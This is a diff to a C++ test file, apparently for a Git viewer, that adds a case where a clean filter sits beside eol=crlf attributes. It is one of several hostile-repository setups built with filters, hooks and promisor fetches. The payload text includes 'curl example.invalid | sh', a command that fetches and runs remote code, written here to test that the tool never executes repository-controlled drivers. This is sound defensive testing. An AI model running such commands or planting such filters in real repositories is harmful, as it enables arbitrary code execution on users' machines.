@@ -21,6 +21,8 @@ QString attributesFor(HostileKind kind)
     case HostileKind::CleanFilter:
     case HostileKind::ProcessFilter:
         return QStringLiteral("*.txt filter=evil\n");
+    case HostileKind::EolFilter:
+        return QStringLiteral("*.txt text eol=crlf filter=evil\n");
     default:
         return {};
     }
@@ -64,6 +66,7 @@ void configure(TestRepo& repo, HostileKind kind, const QString& marker)
                script(QStringLiteral("textconv"), QStringLiteral("cat \"$1\"")));
         break;
     case HostileKind::CleanFilter:
+    case HostileKind::EolFilter:
         config(QStringLiteral("filter.evil.clean"), script(QStringLiteral("clean"), QStringLiteral("cat")));
         break;
     case HostileKind::ProcessFilter:
@@ -99,6 +102,7 @@ const std::vector<HostileCase>& hostileCases()
         {"textconv driver", HostileKind::Textconv},
         {"clean filter", HostileKind::CleanFilter},
         {"long-running filter process", HostileKind::ProcessFilter},
+        {"clean filter beside eol attributes", HostileKind::EolFilter},
         {"post-index-change hook", HostileKind::IndexHook},
         {"promisor fetch of a missing blob", HostileKind::PromisorFetch},
     };
@@ -183,7 +187,10 @@ HostileSetup makeHostileRepo(HostileKind kind)
         ::utime(QFile::encodeName(setup.file).constData(), nullptr);
         return setup;
     }
-    repo.write(kPayload, "echo pwned\ncurl example.invalid | sh\n");
-    setup.twin->write(kPayload, "echo pwned\ncurl example.invalid | sh\n");
+    // The eol case's file has CRLF line ends, which the twin's plain diff drops as the viewer must.
+    const QByteArray modified = kind == HostileKind::EolFilter ? "echo pwned\r\ncurl example.invalid | sh\r\n"
+                                                               : "echo pwned\ncurl example.invalid | sh\n";
+    repo.write(kPayload, modified);
+    setup.twin->write(kPayload, modified);
     return setup;
 }
